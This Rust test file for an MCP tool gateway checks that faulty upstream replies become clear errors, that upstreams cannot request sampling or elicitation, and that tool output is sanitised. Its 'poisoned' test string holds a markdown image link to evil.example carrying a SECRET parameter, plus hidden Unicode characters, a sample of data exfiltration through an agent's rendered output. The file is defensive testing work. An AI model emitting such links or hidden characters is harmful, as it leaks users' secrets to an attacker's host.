//! What upstreams do to calls, the same in every revision: faults become clear errors, and what comes back is cleaned.

use crate::harness::request::REVISION;
use crate::harness::session::{REVISIONS, SessionHouse, Talk, again, messages};
use casemate_tests::session::{Eras, Event, Reply, Step};
use serde_json::{Value, json};

/// What an upstream does to a call of a tool, and what becomes of the call.
fn faults() -> Vec<(&'static str, Reply, &'static str, &'static str)> {
    let ok = r#"{"jsonrpc":"2.0","id":{id},"result":{"resultType":"complete","content":[]}}"#;
    let answer = |body: &str| Reply::json(body);
    let flood = (0..50).map(|n| Step::note("notifications/progress", &json!({ "progressToken": n, "progress": 1 })));
    let long = json!({ "resultType": "complete", "content": [{ "type": "text", "text": "x".repeat(70_000) }] });
    let bare = |text: &str| Step::Raw(text.to_owned());
    vec![
        ("401", Reply::refuse(401), "upstream.auth", "refused"),
        ("403", Reply::refuse(403), "upstream.auth", "refused"),
        ("500", Reply::refuse(500), "upstream.status", "unknown"),
        ("302", Reply::refuse(302).header("location", "http://127.0.0.1:9/"), "upstream.status", "unknown"),
        ("204", Reply::honest().status(204), "upstream.status", "unknown"),
        ("400 without a body of ours", Reply::refuse(400), "upstream.status", "unknown"),
        ("a result under 400", Reply::honest().status(400), "upstream.malformed", "unknown"),
        ("gzip", Reply::honest().header("content-encoding", "gzip"), "upstream.encoding", "unknown"),
        ("html", Reply::text("text/html", ok), "upstream.malformed", "unknown"),
        ("no json", answer("<html>"), "upstream.malformed", "unknown"),
        ("empty", answer(""), "upstream.malformed", "unknown"),
        ("batch", answer(&format!("[{ok}]")), "upstream.malformed", "unknown"),
        ("trailing", answer(&format!("{ok}{ok}")), "upstream.malformed", "unknown"),
        ("another id", answer(&ok.replace("{id}", "\"another\"")), "upstream.malformed", "unknown"),
        ("the id as a text", answer(&ok.replace("{id}", "\"{id}\"")), "upstream.malformed", "unknown"),
        (
            "a further member",
            answer(&ok.replace("\"jsonrpc\"", "\"x\":1,\"jsonrpc\"")),
            "upstream.malformed",
            "unknown",
        ),
        ("no version", answer(&ok.replace("\"jsonrpc\":\"2.0\",", "")), "upstream.malformed", "unknown"),
        ("a look-alike", answer(&ok.replace("content", "Content")), "upstream.malformed", "unknown"),
        (
            "a key twice",
            answer(&ok.replace("\"content\"", "\"content\":[1],\"content\"")),
            "upstream.malformed",
            "unknown",
        ),
        (
            "result and error",
            answer(&ok.replace("\"id\"", "\"error\":{\"code\":1,\"message\":\"\"},\"id\"")),
            "upstream.malformed",
            "unknown",
        ),
        ("half an error", answer(r#"{"jsonrpc":"2.0","id":{id},"error":{"code":1}}"#), "upstream.malformed", "unknown"),
        ("our code", Reply::error(-31_403, "no"), "upstream.malformed", "unknown"),
        (
            "our reason",
            answer(
                r#"{"jsonrpc":"2.0","id":{id},"error":{"code":-32603,"message":"","data":{"reason":"policy.tool"}}}"#,
            ),
            "upstream.malformed",
            "unknown",
        ),
        ("another revision", Reply::error(-32_022, "old"), "upstream.version", "unknown"),
        (
            "deep",
            answer(&ok.replace("[]", &format!("{}{}", "[".repeat(200), "]".repeat(200)))),
            "upstream.malformed",
            "unknown",
        ),
        ("oversize", Reply::result(long.clone()), "upstream.oversize", "unknown"),
        ("oversize event", Reply::stream([Step::Result(long)]), "upstream.oversize", "unknown"),
        ("flood", Reply::stream(flood.chain([Step::Answer])), "upstream.flood", "unknown"),
        ("an empty stream", Reply::stream([]), "upstream.closed", "unknown"),
        ("a torn stream", Reply::stream([bare("data: {\"jsonrpc\":")]), "upstream.closed", "unknown"),
        ("a broken stream", Reply::stream([bare(": x\n\n"), Step::Break]), "upstream.closed", "unknown"),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_fault_of_an_upstream_in_every_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        for (name, reply, code, effect) in faults() {
            house.puppet.next("tools/call", reply);
            let reply = house.broken(&agent, &talk.tool("echo"), code, effect).await;
            assert!(reply.header("www-authenticate").is_none() && reply.header("location").is_none(), "{name}");
            house.done(&agent, &talk.tool("echo")).await;
        }
        let talk = Talk::begin(&house, "brief", revision).await;
        house.puppet.next("tools/call", Reply::hang());
        let call = talk.tool("echo").to("brief");
        house.broken(&agent, &call, "upstream.timeout", "unknown").await;
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_an_upstream_may_not_ask_in_every_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        for (method, params) in [
            ("sampling/createMessage", json!({ "messages": [], "maxTokens": 1 })),
            ("elicitation/create", json!({ "message": "Who?", "requestedSchema": { "type": "object" } })),
            ("roots/list", json!({})),
            ("tools/list", json!({})),
        ] {
            // In the modern era a question is a result, in a session a request on the stream.
            let question = json!({ "q": { "method": method, "params": params } });
            let asks = if revision == REVISION {
                Reply::result(json!({ "resultType": "input_required", "inputRequests": question }))
            } else {
                Reply::stream([Step::ask("q", method, &params), Step::Hang])
            };
            let talk = Talk::begin(&house, "up", revision).await;
            house.puppet.next("tools/call", asks);
            house.broken(&agent, &talk.tool("echo"), "upstream.input_request", "unknown").await;
        }
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_comes_back_is_cleaned_in_every_revision() {
    use base64::Engine as _;
    let variable = |name: &str, value: &str| json!({ "name": name, "value": value });
    let env = [
        variable("MCP_ALLOWED_DOMAINS", "127.0.0.1"),
        variable("MAX_MEDIA_SIZE", "1000"),
        variable("TOKEN_BUDGET_PER_REQUEST", "500"),
    ];
    let house = SessionHouse::planned(Eras::Both, |plan, _| {
        plan.patch(&json!({ "mcp_gateway": { "env": env } }));
        plan.config["upstreams"][1]["sensitive"] = json!(true);
    })
    .await;
    let agent = house.agent();
    let poisoned = "See ![x](https://evil.example/p?d=SECRET) and a\u{200b}b\u{e0041}";
    let clean = |text: &str| !text.contains("evil.example/p?d=SECRET") && !text.contains(['\u{200b}', '\u{e0041}']);
    let result = |content: Value| json!({ "resultType": "complete", "content": [content] });
    let words = |text: &str| result(json!({ "type": "text", "text": text }));
    let image = |bytes: usize| {
        let data = base64::engine::general_purpose::STANDARD.encode(vec![0x5a; bytes]);
        result(json!({ "type": "image", "mimeType": "image/png", "data": data }))
    };
    let progress = |text: &str| {
        Step::Event(Event::of(&json!({ "jsonrpc": "2.0", "method": "notifications/progress",
            "params": { "progressToken": "p", "progress": 1, "message": text } })))
    };
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        house.puppet.next("tools/call", Reply::result(words(poisoned)));
        let reply = agent.ask(&talk.tool("echo")).await;
        assert!(reply.status == 200 && clean(&reply.text()), "{}", reply.text());
        let outcome = house.outcome(&reply.trace(), "", "executed").await;
        assert!(outcome["findings"].as_array().is_some_and(|found| found.len() >= 2), "{outcome}");
        house.puppet.next("tools/call", Reply::stream([progress(poisoned), Step::Result(words(poisoned))]));
        let params = json!({ "name": "echo", "arguments": {}, "_meta": { "progressToken": "p" } });
        let reply = agent.ask(&talk.call("tools/call", params)).await;
        assert!(clean(&reply.text()) && messages(&reply).len() == 2, "{}", reply.text());
        house.puppet.next("tools/call", Reply::error(-32_000, poisoned));
        assert!(clean(&agent.ask(&talk.tool("echo")).await.text()));
        house.puppet.next("tools/call", Reply::result(image(1_000)));
        house.done(&agent, &talk.tool("echo")).await;
        house.puppet.next("tools/call", Reply::result(image(1_001)));
        house.broken(&agent, &talk.tool("echo"), "limit.media_size", "executed").await;
        house.puppet.next("tools/call", Reply::result(words(&"word ".repeat(600))));
        house.broken(&agent, &talk.tool("echo"), "limit.token_budget", "executed").await;
        let budget = (0..10).map(|_| progress(&"word ".repeat(100)));
        house.puppet.next("tools/call", Reply::stream(budget.chain([Step::Answer])));
        let params = json!({ "name": "echo", "arguments": {}, "_meta": { "progressToken": "p" } });
        house.broken(&agent, &talk.call("tools/call", params), "limit.token_budget", "unknown").await;
        // An entry that shows no images.
        let talk = Talk::begin(&house, "asking", revision).await;
        house.puppet.next("tools/call", Reply::result(image(100)));
        let shown = house.done(&agent, &talk.tool("echo").to("asking")).await;
        assert!(!shown.to_string().contains("WlpaWlpa"), "{shown}");
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_record_names_its_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        for (call, kinds) in [(talk.tool("echo"), 2), (talk.tool("unlisted"), 1), (again(&talk.tool("mail")), 1)] {
            let reply = agent.ask(&call).await;
            let records = house.records(&reply.trace()).await;
            assert_eq!(records.len(), kinds);
            assert_eq!(records[0]["revision"], revision, "{}", records[0]);
        }
        if let Talk::Session(session) = talk {
            for call in [session.get(), session.resume("9-9"), session.delete()] {
                let reply = if call.verb == "GET" && !call.has("last-event-id") {
                    drop(session.stream(&call).await);
                    None
                } else {
                    Some(session.ask(&call).await)
                };
                drop(reply);
                let trace = call.header("x-trace-id").expect("a trace");
                assert_eq!(house.records(&trace).await[0]["revision"], revision);
            }
        }
    }
    house.finish().await;
}
